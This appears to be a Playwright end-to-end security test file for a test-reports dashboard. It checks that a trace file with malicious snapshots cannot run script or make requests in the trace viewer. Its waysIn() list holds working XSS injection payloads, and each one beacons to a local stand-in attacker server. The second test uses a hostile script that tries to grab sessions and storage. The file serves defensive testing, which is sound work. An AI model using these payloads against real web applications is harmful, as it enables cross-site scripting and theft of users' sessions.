import { mkdtemp, readFile, rm } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { launchBrowser } from "./browser.ts";
import { junit, setStage } from "./stage.ts";
import { readZip, writeZip } from "./zip.ts";

// Traces of Playwright, opened in its own viewer on the reports' host: a real one, and one that means ill.

const stage = setStage();

let trace: Buffer;
/** A host of the attacker. */
let evil: Server;
let evilUrl: string;
let asked: string[];
beforeAll(async () => {
  trace = await recordTrace();
  evil = createServer(({ method, url }, response) => {
    asked.push(`${method} ${url}`);
    response.end("<h1>evil</h1>");
  });
  await new Promise<void>((resolve) => evil.listen(0, "127.0.0.1", resolve));
  evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
});
afterAll(() => new Promise((resolve) => evil.close(resolve)));

/** Of a small page on which something is clicked. */
async function recordTrace(): Promise<Buffer> {
  const folder = await mkdtemp(join(tmpdir(), "aac-trace-"));
  const browser = await launchBrowser();
  try {
    const context = await browser.newContext();
    await context.tracing.start({ snapshots: true });
    const page = await context.newPage();
    await page.setContent(`<h1>Basket</h1><button onclick="this.textContent='Paid'">Pay</button>`);
    await page.getByRole("button").click();
    await context.tracing.stop({ path: join(folder, "trace.zip") });
    return await readFile(join(folder, "trace.zip"));
  } finally {
    await browser.close();
    await rm(folder, { recursive: true });
  }
}

type Node = string | [string, Record<string, string>, ...Node[]];

/** The same trace, with other pages in its snapshots. */
function withSnapshots(nodes: readonly Node[]): Buffer {
  const html: Node = ["HTML", {}, ["HEAD", {}], ["BODY", {}, ...nodes]];
  const files = new Map<string, Buffer>();
  for (const [name, bytes] of readZip(trace)) {
    const lines = bytes.toString("utf8").split("\n");
    const changed = lines.map((line) => {
      if (!line.includes('"type":"frame-snapshot"')) return line;
      const event = JSON.parse(line) as { snapshot: { html: unknown } };
      return JSON.stringify({ ...event, snapshot: { ...event.snapshot, html } });
    });
    files.set(name, name.endsWith(".trace") ? Buffer.from(changed.join("\n")) : bytes);
  }
  return writeZip(files);
}

/** Uploaded, as from a suite elsewhere; answers the run's id. */
const keepTrace = (bytes: Buffer) =>
  stage.center.upload([
    new File([junit], "junit.xml"),
    new File([new Uint8Array(bytes)], "trace.zip"),
    new File(["self.addEventListener('fetch', () => {})"], "worker.js"),
  ]);

async function openTrace(bytes: Buffer): Promise<Page> {
  asked = [];
  const run = await keepTrace(bytes);
  await stage.signIn();
  await stage.page.goto(`${stage.center.url}/runs/${run}?tab=artifacts`);
  const opened = stage.window.context.waitForEvent("page");
  await stage.page.getByRole("link", { name: "Open trace" }).click();
  const viewer = await opened;
  await viewer.getByRole("treeitem").filter({ hasText: "Click" }).click();
  return viewer;
}

const snapshotOf = (viewer: Page) => viewer.frameLocator("iframe.snapshot-visible");
const reportsOrigin = () => stage.center.url.replace("127.0.0.1", "reports.localhost");

test("a trace is opened in place, with its actions and what the page looked like", async () => {
  const viewer = await openTrace(trace);
  expect(new URL(viewer.url()).origin).toBe(reportsOrigin());
  await viewer.getByRole("treeitem").filter({ hasText: "Set content" }).waitFor();
  await snapshotOf(viewer).getByRole("heading", { name: "Basket" }).waitFor();
  await viewer.getByRole("tab", { name: "After" }).click();
  await snapshotOf(viewer).getByRole("button", { name: "Paid" }).waitFor();
});

/** Ways in which a snapshot could run a script, or ask for something, by itself. */
function waysIn(): Node[] {
  const tell = (how: string) =>
    `new Image().src = "${evilUrl}/${how}"; fetch("${evilUrl}/${how}", { mode: "no-cors" })`;
  const page = (how: string) => `<script>${tell(how)}</script>`;
  return [
    ["SCRIPT", {}, tell("script")],
    ["scrIpt", {}, tell("other-case")],
    [`B><script>${tell("name")}</script><b`, {}],
    ["P", { [`a><script>${tell("attribute")}</script><b`]: "" }],
    ["P", { a: `"><script>${tell("value")}</script>` }],
    ["IMG", { src: "data:,", onerror: tell("handler"), OnError: tell("handler") }],
    ["svg", { onload: tell("svg") }, ["script", {}, tell("svg-script")]],
    ["IFRAME", { srcdoc: page("srcdoc") }],
    ["IFRAME", { src: `javascript:${tell("javascript")}` }],
    ["IFRAME", { src: `${evilUrl}/frame` }],
    ["OBJECT", { data: `${evilUrl}/object` }],
    ["EMBED", { src: `${evilUrl}/embed` }],
    ["META", { "http-equiv": "refresh", content: `0; url=${evilUrl}/refresh` }],
    ["LINK", { rel: "stylesheet", href: `${evilUrl}/style` }],
    ["IMG", { src: `${evilUrl}/image` }],
    ["VIDEO", { src: `${evilUrl}/video` }],
    ["STYLE", {}, `body { background: url(${evilUrl}/background) }`],
    ["DIV", {}, ["TEMPLATE", { __playwright_shadow_root_: "" }, [`B><script>${tell("shadow")}</script><b`, {}]]],
  ];
}

/** What a script would try that did run in the page, as its own. */
async function tryAll(page: Page, known: { center: string; file: string }): Promise<Record<string, string>> {
  const html = await readFile(join(import.meta.dirname, "hostile/in-viewer.html"), "utf8");
  const script = html.replaceAll(/<\/?script>/g, "");
  return page.evaluate(`(() => { ${script}; return tryAll(${JSON.stringify(known)}); })()`);
}

describe("a trace that means ill", () => {
  test("runs no script in the viewer, and asks nobody for anything", async () => {
    const viewer = await openTrace(withSnapshots([["H1", {}, "Hostile"], ...waysIn()]));
    await snapshotOf(viewer).getByRole("heading", { name: "Hostile" }).waitFor();
    await viewer.getByRole("tab", { name: "Before" }).click();
    await snapshotOf(viewer).getByRole("heading", { name: "Hostile" }).waitFor();
    await viewer.waitForLoadState("networkidle");
    expect(asked).toEqual([]);
    expect(new URL(viewer.url()).origin).toBe(reportsOrigin());
    stage.allowComplaints(/./);
  });

  test("would get nothing of ours if a script of it ran there, nor do anything for its reader", async () => {
    // Without the policies: what is left is that it is another host.
    await stage.reopen({ bypassCSP: true });
    const viewer = await openTrace(withSnapshots([["H1", {}, "Hostile"]]));
    await stage.page.evaluate('localStorage.setItem("of the dashboard", "kept")');
    const shown = new URL(new URL(viewer.url()).searchParams.get("trace")!);
    const known = { center: stage.center.url, file: shown.pathname.replace("trace.zip", "worker.js") };
    const opened = stage.window.context.waitForEvent("page");
    // With an opener, which our own links withhold.
    await stage.page.evaluate(`void open(${JSON.stringify(viewer.url())})`);
    const popup = await opened;
    await popup.getByRole("treeitem").first().waitFor();
    // In the viewer its service worker stands before every request; beside it, none does.
    for (const url of [null, `${reportsOrigin()}/`]) {
      if (url) await popup.goto(url);
      const got = await tryAll(popup, known);
      expect(got).toEqual(Object.fromEntries(Object.keys(got).map((name) => [name, "nothing"])));
      expect(Object.keys(got)).toHaveLength(10);
    }
    const { items } = await stage.center.client.call("listProjects", {});
    expect(items.map(({ slug }) => slug)).not.toContain("by-script");

    // On the dashboard's host the same would get it.
    const there = await tryAll(stage.page, known);
    expect(there["session"]).toContain('"permissions"');
    expect(there).toMatchObject({
      storage: "kept",
      create: "201",
      "a popup of the dashboard": expect.stringMatching(/./),
    });
    stage.allowComplaints(/./);
  });
});
